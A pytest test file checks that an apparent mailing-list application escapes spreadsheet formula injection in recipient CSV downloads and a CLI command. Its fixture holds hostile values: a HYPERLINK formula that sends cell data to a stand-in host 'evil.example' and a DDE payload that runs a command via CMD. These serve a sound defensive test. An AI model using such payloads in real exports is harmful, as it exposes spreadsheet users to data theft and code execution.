"""Recipient CSVs open in spreadsheets: no cell typed by a user may run as a formula there."""

from __future__ import annotations

import csv
import io

import pytest

from mcbridge.extensions import db
from tests import factories as make
from tests.admin.conftest import Organisation

FORMULAS = {
    "first_name": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "last_name": "+41 79 000 00 00",
    "nickname": "-2+3",
    "company": "@SUM(A1:A9)",
}


@pytest.fixture
def hostile(org: Organisation):
    """A person whose every typed field starts like a formula, reached through a role type
    named like one (the "Reached by" column starts with it)."""
    person = make.person("x", "x", email="-hostile@club-mail.ch")
    for field, value in FORMULAS.items():
        setattr(person, field, value)
    make.role(person, org.club_a, org.member_type)
    org.member_type.name = "\tCMD|' /C calc'!A0"
    db.session.commit()
    return person


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def hostile_row(rows: list[list[str]]) -> list[str]:
    return next(row for row in rows if "hostile" in row[0])


def test_the_download_turns_every_formula_into_text(as_leader, org, hostile):
    response = as_leader.get(f"/admin/subscribers/{org.north_list.id}/subscribers.csv")

    rows = rows_of(response.get_data(as_text=True))
    assert_no_formula(rows)
    row = hostile_row(rows)
    assert row[:5] == [
        "'-hostile@club-mail.ch",
        "'" + FORMULAS["first_name"],
        "'" + FORMULAS["last_name"],
        "'" + FORMULAS["nickname"],
        "'" + FORMULAS["company"],
    ]
    assert row[6].startswith("'\tCMD|' /C calc'!A0 in Federation / North")


def test_the_recipients_command_turns_every_formula_into_text(runner, org, hostile):
    result = runner.invoke(args=["mcbridge", "recipients", str(org.north_list.id)])

    assert result.exit_code == 0, result.output
    rows = rows_of(result.output)
    assert_no_formula(rows)
    assert hostile_row(rows)[1] == "'" + FORMULAS["first_name"]


def test_every_cell_is_quoted_so_a_semicolon_never_splits_it(as_leader, org):
    org.alice.company = "Acme; =1+1"
    db.session.commit()

    text = as_leader.get(f"/admin/subscribers/{org.north_list.id}/subscribers.csv").get_data(
        as_text=True
    )

    assert '"Acme; =1+1"' in text
    assert all(line.startswith('"') for line in text.lstrip("\ufeff").splitlines())
